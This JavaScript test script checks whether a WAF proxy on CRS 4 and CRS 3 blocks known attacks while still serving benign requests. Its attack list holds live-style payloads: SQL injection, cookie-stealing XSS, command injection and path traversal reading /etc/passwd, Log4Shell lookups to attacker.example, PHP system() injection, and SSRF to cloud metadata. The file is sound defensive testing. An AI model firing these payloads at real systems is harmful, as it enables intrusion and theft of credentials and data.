// Third pass, item 2: CRS 4 (the shared data) after the CRS 3 work: known attacks still refused,
// ordinary requests still served; the same requests against CRS 3.3.4, side by side, with the
// CRS 3 gaps mamori's rule pack does not close printed as findings. PL1, blocking.
// node bench/redteam/waf-proxy3-crs-sanity.mjs
import { CRS3 } from './waf-proxy3-lib.mjs';
import { CRS, startUpstream, startMamori, raw, rawReq, report, results } from './waf-proxy-lib.mjs';

const enc = encodeURIComponent;
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const JSONH = { 'Content-Type': 'application/json' };
const mp = (b, name, filename, content) => `--${b}\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"` : ''}\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--${b}--\r\n`;

const ATTACKS = [
  ['SQLi in the query', rawReq({ target: `/items?id=${enc("1' UNION SELECT username,password FROM users--")}` })],
  ['SQLi tautology in a form', rawReq({ method: 'POST', target: '/login', headers: FORM, body: `user=${enc("admin' OR '1'='1")}&pass=x` })],
  ['SQLi in JSON', rawReq({ method: 'POST', target: '/api', headers: JSONH, body: JSON.stringify({ id: "1; DROP TABLE users--" }) })],
  ['XSS in the query', rawReq({ target: `/search?q=${enc('<script>alert(document.cookie)</script>')}` })],
  ['XSS in a cookie', rawReq({ headers: { Cookie: `name=${enc('<img src=x onerror=alert(1)>')}` } })],
  ['XSS in a path segment (/profile/:name)', rawReq({ target: `/profile/${enc('<img src=x onerror=alert(1)>')}` })],
  ['command injection', rawReq({ target: `/ping?host=${enc('127.0.0.1; cat /etc/passwd')}` })],
  ['path traversal', rawReq({ target: `/download?file=${enc('../../../../etc/passwd')}` })],
  ['Log4Shell in a header', rawReq({ headers: { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' } })],
  ['Log4Shell in the query', rawReq({ target: `/search?q=${enc('${jndi:ldap://attacker.example/a}')}` })],
  ['Log4Shell in User-Agent', rawReq({ headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } })],
  ['Node prototype pollution in the query (constructor[prototype])', rawReq({ target: '/api/settings?constructor[prototype][isAdmin]=1' })],
  ['Next.js middleware bypass header (CVE-2025-29927)', rawReq({ target: '/admin', headers: { 'X-Middleware-Subrequest': 'middleware:middleware:middleware:middleware:middleware' } })],
  ['method override header turning a POST into DELETE', rawReq({ method: 'POST', target: '/api/users/1', headers: { ...FORM, 'X-HTTP-Method-Override': 'DELETE' }, body: 'a=1' })],
  ['PHP code injection', rawReq({ method: 'POST', target: '/x', headers: FORM, body: `code=${enc('<?php system($_GET["c"]); ?>')}` })],
  ['PHP wrapper', rawReq({ target: `/page?inc=${enc('php://filter/convert.base64-encode/resource=index.php')}` })],
  ['Node prototype pollution', rawReq({ method: 'POST', target: '/api', headers: JSONH, body: '{"__proto__":{"isAdmin":true}}' })],
  ['Java deserialisation gadget', rawReq({ method: 'POST', target: '/api', headers: FORM, body: `x=${enc('java.lang.Runtime.getRuntime().exec("id")')}` })],
  ['SSRF to cloud metadata', rawReq({ target: `/fetch?url=${enc('http://169.254.169.254/latest/meta-data/')}` })],
  ['multipart filename with a quote (920120 on CRS 3)', rawReq({ method: 'POST', target: '/upload', headers: { 'Content-Type': 'multipart/form-data; boundary=BB' }, body: mp('BB', 'f', "a'.txt", 'hello') })],
  ['scanner User-Agent', rawReq({ headers: { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } })],
];
const BENIGN = [
  ['browser GET', rawReq({ target: '/products?page=2&sort=price' })],
  ['search with an apostrophe', rawReq({ target: `/search?q=${enc("O'Reilly's guide to SQL")}` })],
  ['login form', rawReq({ method: 'POST', target: '/login', headers: FORM, body: 'user=anna%40example.com&pass=Tr0ub4dor%263' })],
  ['JSON order', rawReq({ method: 'POST', target: '/api/orders', headers: JSONH, body: JSON.stringify({ items: [{ sku: 'A-1', qty: 2 }], note: 'Please leave at the door, thanks!' }) })],
  ['multipart upload', rawReq({ method: 'POST', target: '/upload', headers: { 'Content-Type': 'multipart/form-data; boundary=BB' }, body: mp('BB', 'avatar', 'me.png', 'PNGDATA') })],
  ['Chrome Accept header', rawReq({ headers: { Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7' } })],
  ['API Accept with charset', rawReq({ headers: { Accept: 'application/json; charset=utf-8' } })],
  ['comment with prose', rawReq({ method: 'POST', target: '/comments', headers: FORM, body: `text=${enc('I would like to select a better option from the menu, and 1 = 1 is not a proof. Thanks!')}` })],
  ['cookie session', rawReq({ headers: { Cookie: 'sid=s%3AabcDEF123.xyz; theme=dark' } })],
];

const up = await startUpstream();
const table = [];
for (const [name, crs] of [['CRS 4', CRS], ['CRS 3', CRS3]]) {
  const m = await startMamori(up.url, { waf: { crs, paranoia: 1, block_sources: { after: 0 } } });
  try {
    for (const [label, req] of ATTACKS) table.push({ crs: name, kind: 'attack', label, st: (await raw(m.port, req)).statuses[0] });
    for (const [label, req] of BENIGN) table.push({ crs: name, kind: 'benign', label, st: (await raw(m.port, req)).statuses[0] });
  } finally {
    await m.stop();
  }
}
await up.close();
for (const [kind, list] of [['attack', ATTACKS], ['benign', BENIGN]]) {
  for (const [label] of list) {
    const a = table.find((r) => r.crs === 'CRS 4' && r.label === label).st;
    const b = table.find((r) => r.crs === 'CRS 3' && r.label === label).st;
    const good = (s) => (kind === 'attack' ? s >= 400 : s === 200);
    if (good(a) && good(b)) { console.log(`OK      ${kind} ${label} -- CRS 4 ${a}, CRS 3 ${b}`); continue; }
    report(false, `${kind} ${label} answered as expected (${kind === 'attack' ? 'refused' : '200'})`, `CRS 4 ${a}, CRS 3 ${b}`);
  }
}
console.log(`\n${results.findings} finding(s)`);
